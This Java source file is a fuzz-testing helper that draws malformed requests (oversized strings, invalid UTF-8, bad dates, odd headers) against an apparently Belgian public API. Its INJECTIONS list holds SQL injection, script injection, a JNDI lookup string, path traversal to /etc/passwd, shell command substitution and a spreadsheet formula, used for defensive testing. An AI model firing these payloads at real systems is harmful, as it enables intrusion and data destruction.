package be.wallonie.parcours.api.badinput;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;

import be.wallonie.parcours.api.badinput.Mutation.Body;
import be.wallonie.parcours.api.badinput.Mutation.Bytes;
import be.wallonie.parcours.api.badinput.Mutation.Encoded;
import be.wallonie.parcours.api.badinput.Mutation.Field;
import be.wallonie.parcours.api.badinput.Mutation.Header;
import be.wallonie.parcours.api.badinput.Mutation.Json;
import be.wallonie.parcours.api.badinput.Mutation.Missing;
import be.wallonie.parcours.api.badinput.Mutation.Nested;
import be.wallonie.parcours.api.badinput.Mutation.PathParameter;
import be.wallonie.parcours.api.badinput.Mutation.Query;
import be.wallonie.parcours.api.badinput.Mutation.Text;
import be.wallonie.parcours.api.badinput.Mutation.WholeBody;

/**
 * Draws one mutation for an operation's valid request: a value of the body changed (wrong type, null, out-of-bounds
 * number, huge or empty string, NUL, lone surrogate or control character, injection string, unknown field, deep
 * nesting, missing field, impossible date, unknown id or code), a broken body (truncated, wrong content type, empty,
 * invalid UTF-8, too large), a bad query or path value ({@code not-a-uuid}, {@code %00}, huge values, negative pages),
 * or an odd header (malformed {@code Accept-Language}, {@code If-Match} or {@code Idempotency-Key} garbage). Every
 * draw comes from the {@link Random} it is given: the same seed draws the same mutations.
 */
final class Mutations {

    /** Strings a hostile client tries; also stripped from answers before they are searched for leaks. */
    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE person; --",
            "1; SELECT pg_sleep(0) --", "\" OR \"\"=\"", "<script>alert(1)</script>", "${jndi:ldap://x.invalid/a}",
            "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "%s%s%s%n", "\\", "\\u0000", "$(id)", "`id`",
            "‮gnp.exe", "😀🇧🇪", "Ω≈ç√∫", "=HYPERLINK(\"http://x.invalid\")", "@SUM(1+1)", "null", "undefined",
            "NaN", "-1", "0x7fffffff", "java.lang.Runtime", "SELECT * FROM user_account",
            "INSERT INTO audit_event VALUES (1)", "ERROR:  violates", "Exception");
    private static final List<String> LANGUAGES = List.of("fr", "nl", "de", "en", "nl-BE,nl;q=0.9,fr;q=0.5",
            "en-GB;q=0.8, de");
    private static final List<String> MALFORMED_LANGUAGES = List.of("xx-YY;q=abc", "fr;q=", ";;;", "*-*",
            "fr-BE;q=2", "en;q=-1", "q=0.5", "fr;q=0.5;q=0.4", "-", "fr_BE", "de-DE-DE-DE-DE-DE-DE-DE-DE",
            "1234", ",", "fr;level=1", "*;q=abc");
    private static final List<String> DATES = List.of("2026-02-30", "0000-01-01", "0001-01-01", "9999-12-31",
            "+10000-01-01", "-0001-01-01", "1900-01-01", "2026-13-01", "2026-1-1", "01/02/2026",
            "2026-01-01T00:00:00Z", "hier", "2026-W01", "20260101", "9999999999-01-01");
    private static final List<String> WEIRD_TEXTS = List.of("", " ", "\t\n", "NOWHERE", "a", "é", "0", "-1", "true");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
            "application/json; charset=nope", "garbage", "", "text/csv", "application/octet-stream",
            "application/json; charset=ISO-8859-1", "*/*");
    private static final List<String> ACCEPTS = List.of("application/xml", "text/html", "garbage",
            "*/*;q=abc", "application/json;q=0", "image/png", "");
    private static final List<String> IF_MATCHES = List.of("abc", "\"abc\"", "*", "W/\"1\"", "", "\"\"",
            "\"99999999999999999999\"", "\"-1\"", ",,,,", "\"1\", \"2\"", "W/", "\"0\"", "null");

    private final boolean isCsv;
    private final Set<String> skipped;

    Mutations(boolean isCsv, Set<String> skipped) {
        this.isCsv = isCsv;
        this.skipped = skipped;
    }

    /** A valid Accept-Language, or none (a request without it speaks French). */
    static String language(Random random) {
        return random.nextInt(4) == 0 ? null : LANGUAGES.get(random.nextInt(LANGUAGES.size()));
    }

    /** One mutation of the operation's request, whose valid body is {@code body} (null when it has none). */
    Mutation draw(ApiOperation operation, JsonNode body, Random random) {
        for (int attempt = 0; attempt < 50; attempt++) {
            Mutation mutation = drawAny(operation, body, random);
            if (mutation != null && !skipped.contains(mutation.kind())) {
                return mutation;
            }
        }
        return new Mutation("unknown-query", new Query("badinput"), new Text("1"));
    }

    /**
     * With a body: its values 60 %, the body as a whole 10 %, query 10 %, path 10 %, headers 10 %. Without: query
     * and path 35 % each (path to query when there is none), headers 20 %, an unexpected body 10 %.
     */
    /**
     * With a body: its values 60 in 100, the body as a whole 10, query 10, path 10, headers 10. Without: an
     * unexpected body 10, query 35, path 35, headers 20. An operation without query parameters gets an unknown one
     * 4 times in 100; without path parameters, none.
     */
    private Mutation drawAny(ApiOperation operation, JsonNode body, Random random) {
        boolean hasBody = body != null;
        int[] weights = {hasBody ? 60 : 0, 10, operation.in("query").isEmpty() ? 4 : hasBody ? 10 : 35,
                operation.in("path").isEmpty() ? 0 : hasBody ? 10 : 35, hasBody ? 10 : 20};
        int roll = random.nextInt(java.util.Arrays.stream(weights).sum());
        int choice = 0;
        while (roll >= weights[choice]) {
            roll -= weights[choice++];
        }
        return switch (choice) {
            case 0 -> bodyValue(body, random);
            case 1 -> wholeBody(body, random);
            case 2 -> query(operation, random);
            case 3 -> {
                List<ApiOperation.Parameter> parameters = operation.in("path");
                yield path(parameters.get(random.nextInt(parameters.size())).name(), random);
            }
            default -> header(operation, hasBody, random);
        };
    }

    // --- a value of the body ---

    private Mutation bodyValue(JsonNode body, Random random) {
        List<List<Object>> places = new ArrayList<>();
        collect(body, new ArrayList<>(), places);
        List<Object> at = places.get(random.nextInt(places.size()));
        JsonNode current = at(body, at);
        Body place = new Body(at);
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        int roll = random.nextInt(100);
        if (current.isTextual()) {
            String text = current.textValue();
            if (roll < 10) {
                return new Mutation("huge-string", place, new Text(huge(random, text)));
            }
            if (roll < 17) {
                return new Mutation("empty-string", place, new Text(pick(random, List.of("", " ", "\t\n", "\u00a0"))));
            }
            if (roll < 25) {
                return new Mutation("nul-character", place, new Text(insert(random, text, "\u0000")));
            }
            if (roll < 32) {
                return new Mutation("lone-surrogate", place,
                        new Text(insert(random, text, pick(random, List.of("\ud800", "\udfff", "\udbff")))));
            }
            if (roll < 38) {
                return new Mutation("control-character", place, new Text(insert(random, text,
                        pick(random, List.of("\u0001", "\u001b", "\u007f", "\u2028", "\ufffe", "\r\n", "\ufeff")))));
            }
            if (roll < 48) {
                return new Mutation("injection", place, new Text(pick(random, INJECTIONS)));
            }
            if (roll < 58 && text.matches("\\d{4}-\\d{2}-\\d{2}")) {
                return new Mutation("date-edge", place, new Text(pick(random, DATES)));
            }
            if (roll < 58 && text.matches("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")) {
                return new Mutation("uuid-edge", place,
                        new Text(pick(random, List.of(new UUID(random.nextLong(), random.nextLong()).toString(),
                                "00000000-0000-0000-0000-000000000000", "not-a-uuid", text.toUpperCase(),
                                text.replace("-", ""), "{" + text + "}", text + "0"))));
            }
            if (roll < 58) {
                return new Mutation("code-edge", place, new Text(pick(random, List.of(text.toLowerCase(),
                        text.toUpperCase(), text + " ", " " + text, text + "X", pick(random, WEIRD_TEXTS)))));
            }
        }
        if (current.isNumber() && roll < 45) {
            return new Mutation("number-bounds", place, new Json(JsonText.raw(pick(random, List.of("-1", "0",
                    "-0", "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1e308",
                    "1e400", "-1e400", "0.0000001", "1.999999999999999999999", "1E+2", "123456789012345678901234567890",
                    "0.25", "1000000", "99999.99")))));
        }
        if (current.isObject() && roll < 40 && !isCsv) {
            String name = pick(random, List.of("unknownField", "__proto__", "constructor", "@class", "id",
                    "version", "createdAt", "tenant", "cri", ""));
            return new Mutation("unknown-field", place, new Field(name, new Text("x")));
        }
        if (current.isArray() && roll < 20) {
            int size = pick(random, List.of(1_000, 10_000, 60_000));
            return new Mutation("huge-array", place, new Json(repeat(current, size)));
        }
        if (roll < 62) {
            return new Mutation("wrong-type", place, new Json(wrongType(current, random)));
        }
        if (roll < 72) {
            return new Mutation("null", place, new Json(nodes.nullNode()));
        }
        if (roll < 86 && !at.isEmpty()) {
            return new Mutation("missing-field", place, new Missing());
        }
        if (isCsv) {
            return new Mutation("wrong-type", place, new Json(wrongType(current, random)));
        }
        return new Mutation("deep-nesting", place, new Nested(pick(random, List.of(64, 600, 1_001, 5_000, 20_000))));
    }

    private static void collect(JsonNode node, List<Object> path, List<List<Object>> places) {
        places.add(List.copyOf(path));
        if (node.isObject()) {
            for (Iterator<String> names = node.fieldNames(); names.hasNext();) {
                String name = names.next();
                path.add(name);
                collect(node.get(name), path, places);
                path.remove(path.size() - 1);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                path.add(i);
                collect(node.get(i), path, places);
                path.remove(path.size() - 1);
            }
        }
    }

    private static JsonNode at(JsonNode root, List<Object> path) {
        JsonNode node = root;
        for (Object step : path) {
            node = step instanceof Integer index ? node.get(index) : node.get((String) step);
        }
        return node;
    }

    private static JsonNode wrongType(JsonNode current, Random random) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        List<JsonNode> others = new ArrayList<>();
        if (!current.isTextual()) {
            others.add(nodes.textNode(pick(random, List.of("abc", "12", "true", ""))));
        }
        if (!current.isNumber()) {
            others.add(JsonText.raw(pick(random, List.of("42", "-1", "1.5", "0"))));
        }
        if (!current.isBoolean()) {
            others.add(nodes.booleanNode(random.nextBoolean()));
        }
        if (!current.isArray()) {
            others.add(nodes.arrayNode().add(current.isContainerNode() ? nodes.textNode("x") : current.deepCopy()));
        }
        if (!current.isObject()) {
            others.add(nodes.objectNode().put("value", current.isTextual() ? current.textValue() : "x"));
        }
        return others.get(random.nextInt(others.size()));
    }

    private static JsonNode repeat(JsonNode array, int size) {
        com.fasterxml.jackson.databind.node.ArrayNode many = JsonNodeFactory.instance.arrayNode();
        JsonNode element = array.isEmpty() ? JsonNodeFactory.instance.textNode("x") : array.get(array.size() - 1);
        for (int i = 0; i < size; i++) {
            many.add(element.deepCopy());
        }
        return many;
    }

    private static String huge(Random random, String text) {
        int length = pick(random, List.of(256, 1_001, 5_000, 65_537, 300_000));
        String unit = random.nextBoolean() ? "A" : text.isEmpty() ? "é" : text;
        StringBuilder huge = new StringBuilder(length);
        while (huge.length() < length) {
            huge.append(unit);
        }
        return huge.substring(0, length);
    }

    private static String insert(Random random, String text, String inserted) {
        int at = text.isEmpty() ? 0 : random.nextInt(text.length() + 1);
        if (at > 0 && at < text.length() && Character.isLowSurrogate(text.charAt(at))) {
            at++;
        }
        return text.substring(0, at) + inserted + text.substring(at);
    }

    // --- the body as a whole ---

    private Mutation wholeBody(JsonNode body, Random random) {
        WholeBody place = new WholeBody();
        String type = isCsv ? "text/csv" : "application/json";
        byte[] valid = body == null
                ? new byte[0]
                : isCsv ? BadRequest.Csv.write(body) : JsonText.write(body).getBytes(StandardCharsets.US_ASCII);
        if (body == null) {
            return new Mutation("unexpected-body", place, new Bytes(pick(random, List.of("application/json",
                    "text/plain")), pick(random, List.of("{}", "{\"a\":1}", "[]", "null", "x")).getBytes(
                            StandardCharsets.UTF_8),
                    false));
        }
        int roll = random.nextInt(100);
        if (roll < 25 && valid.length > 1) {
            return new Mutation("truncated-body", place,
                    new Bytes(type, Arrays.copyOf(valid, 1 + random.nextInt(valid.length - 1)), true));
        }
        if (roll < 45) {
            return new Mutation("wrong-content-type", place, new Bytes(pick(random, CONTENT_TYPES), valid, false));
        }
        if (roll < 55) {
            return new Mutation("empty-body", place, new Bytes(type, new byte[0], false));
        }
        if (roll < 70) {
            return new Mutation("json-literal", place, new Bytes(type, pick(random, List.of("null", "[]", "42",
                    "\"x\"", "true", "{}", "{", "}", "[{}]", "{\"a\":}", "{'a':1}", "{\"a\":1,}", "\ufeff{}"))
                    .getBytes(StandardCharsets.UTF_8), false));
        }
        if (roll < 85) {
            return new Mutation("invalid-utf8", place, new Bytes(type, invalidUtf8(valid, random), false));
        }
        if (roll < 90) {
            return new Mutation("oversized-body", place,
                    new Bytes(type, oversized(valid, pick(random, List.of(11 << 20, 3 << 20))), true));
        }
        return new Mutation("json-literal", place, new Bytes(type, pick(random, List.of("{\"a\":1}{\"b\":2}",
                "{\"a\":1} trailing", "[1,2", "{\"a\":\"\\ud800\"}", "{\"a\":\"\\x41\"}", "{\"a\":01}",
                "{\"a\":NaN}", "{\"a\":Infinity}")).getBytes(StandardCharsets.UTF_8), false));
    }

    private static byte[] invalidUtf8(byte[] valid, Random random) {
        byte[][] broken = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xE9}};
        byte[] inserted = broken[random.nextInt(broken.length)];
        // inside a string of the body when there is one: after the first quote that opens a value
        int at = 0;
        for (int i = 0; i < valid.length - 1; i++) {
            if (valid[i] == ':' && valid[i + 1] == '"') {
                at = i + 2;
                break;
            }
        }
        byte[] result = new byte[valid.length + inserted.length];
        System.arraycopy(valid, 0, result, 0, at);
        System.arraycopy(inserted, 0, result, at, inserted.length);
        System.arraycopy(valid, at, result, at + inserted.length, valid.length - at);
        return result;
    }

    private static byte[] oversized(byte[] valid, int size) {
        byte[] result = new byte[Math.max(size, valid.length)];
        Arrays.fill(result, (byte) ' ');
        System.arraycopy(valid, 0, result, 0, valid.length);
        return result;
    }

    // --- query and path ---

    private static Mutation query(ApiOperation operation, Random random) {
        List<ApiOperation.Parameter> parameters = operation.in("query");
        if (parameters.isEmpty() || random.nextInt(8) == 0) {
            return new Mutation("unknown-query", new Query(pick(random, List.of("badinput", "page", "__proto__",
                    "q[]", "a%00"))), new Text(pick(random, List.of("1", "-1", "", "x"))));
        }
        ApiOperation.Parameter parameter = parameters.get(random.nextInt(parameters.size()));
        Query place = new Query(parameter.name());
        int roll = random.nextInt(100);
        if (roll < 8) {
            return new Mutation("nul-in-query", place, new Encoded(pick(random, List.of("%00", "1%00", "a%00b"))));
        }
        if (roll < 14) {
            return new Mutation("huge-query", place, new Text("9".repeat(pick(random, List.of(300, 5_000, 9_000)))));
        }
        if (roll < 22) {
            return new Mutation("invalid-percent-encoding", place, new Encoded(pick(random, List.of("%C3%28", "%FF",
                    "%ED%A0%80", "%E9", "%C0%AF", "%F4%90%80%80"))));
        }
        if (roll < 30) {
            return new Mutation("injection", place, new Text(pick(random, INJECTIONS)));
        }
        if (roll < 36 && parameter.required()) {
            return new Mutation("missing-field", place, new Missing());
        }
        List<String> values = switch (parameter.type()) {
            case "integer", "number" -> List.of("abc", "-1", "0", "-2147483649", "2147483648",
                    "99999999999999999999", "1.5", "1e3", "", " 1", "0x10", "+1");
            case "boolean" -> List.of("yes", "2", "", "TRUE ", "null");
            case "enum" -> List.of("NOWHERE", "", pick(random, parameter.enumValues()).toLowerCase(),
                    pick(random, parameter.enumValues()).toUpperCase() + " ");
            default -> parameter.format().equals("date") || parameter.name().matches("from|to|.*Date")
                    ? DATES
                    : List.of("", " ", "NOWHERE", "-1", "abc", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzz");
        };
        return new Mutation("bad-query", place, new Text(pick(random, values)));
    }

    private static Mutation path(String name, Random random) {
        PathParameter place = new PathParameter(name);
        int roll = random.nextInt(100);
        if (roll < 12) {
            return new Mutation("nul-in-path", place, new Encoded(pick(random, List.of("%00", "a%00", "%00.pdf"))));
        }
        if (roll < 20) {
            return new Mutation("huge-path", place, new Text("a".repeat(pick(random, List.of(300, 2_000, 7_000)))));
        }
        if (roll < 30) {
            return new Mutation("invalid-percent-encoding", place, new Encoded(pick(random, List.of("%C3%28", "%FF",
                    "%ED%A0%80", "%E9", "%C0%AF", "%F4%90%80%80"))));
        }
        if (roll < 40) {
            return new Mutation("injection", place, new Text(pick(random, INJECTIONS)));
        }
        return new Mutation("bad-path", place, new Encoded(pick(random, List.of("not-a-uuid",
                new UUID(random.nextLong(), random.nextLong()).toString(), "00000000-0000-0000-0000-000000000000", "..",
                "%2E%2E", "%2F", "%20",
                "-1", "0", "99999999999999999999", "ILI-LIEGE", "62063", "%252F", "%5C", "a;b", "*", "~"))));
    }

    // --- headers ---

    private static Mutation header(ApiOperation operation, boolean hasBody, Random random) {
        List<Function<Random, Mutation>> choices = new ArrayList<>();
        choices.add(r -> new Mutation("malformed-accept-language", new Header("Accept-Language"),
                new Text(pick(r, MALFORMED_LANGUAGES))));
        choices.add(r -> new Mutation("huge-header", new Header(pick(r, List.of("Accept-Language", "X-Badinput"))),
                new Text("fr," + "x".repeat(pick(r, List.of(1_000, 9_000, 20_000))))));
        choices.add(r -> new Mutation("bad-accept", new Header("Accept"), new Text(pick(r, ACCEPTS))));
        if (operation.hasHeader("If-Match")) {
            choices.add(r -> r.nextInt(5) == 0
                    ? new Mutation("bad-if-match", new Header("If-Match"), new Missing())
                    : new Mutation("bad-if-match", new Header("If-Match"), new Text(pick(r, IF_MATCHES))));
        }
        if (operation.hasHeader("Idempotency-Key")) {
            choices.add(r -> r.nextInt(5) == 0
                    ? new Mutation("bad-idempotency-key", new Header("Idempotency-Key"), new Missing())
                    : new Mutation("bad-idempotency-key", new Header("Idempotency-Key"), new Text(pick(r, List.of("",
                            " ", "k".repeat(201), "k".repeat(5_000), "clé-é", "a b", "../x", "' OR 1=1 --")))));
        }
        if (hasBody) {
            choices.add(r -> new Mutation("wrong-content-type", new Header("Content-Type"),
                    new Text(pick(r, CONTENT_TYPES))));
        }
        return pick(random, choices).apply(random);
    }

    static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Every kind of mutation this class draws, for the report and {@code -Dbadinput.skip}. */
    static final List<String> KINDS = List.of("huge-string", "empty-string", "nul-character", "lone-surrogate",
            "control-character", "injection", "date-edge", "uuid-edge", "code-edge", "number-bounds", "unknown-field",
            "huge-array", "wrong-type", "null", "missing-field", "deep-nesting", "unexpected-body", "truncated-body",
            "wrong-content-type", "empty-body", "json-literal", "invalid-utf8", "oversized-body", "unknown-query",
            "nul-in-query", "huge-query", "invalid-percent-encoding", "bad-query", "nul-in-path", "huge-path",
            "bad-path", "malformed-accept-language", "huge-header", "bad-accept", "bad-if-match",
            "bad-idempotency-key");
}
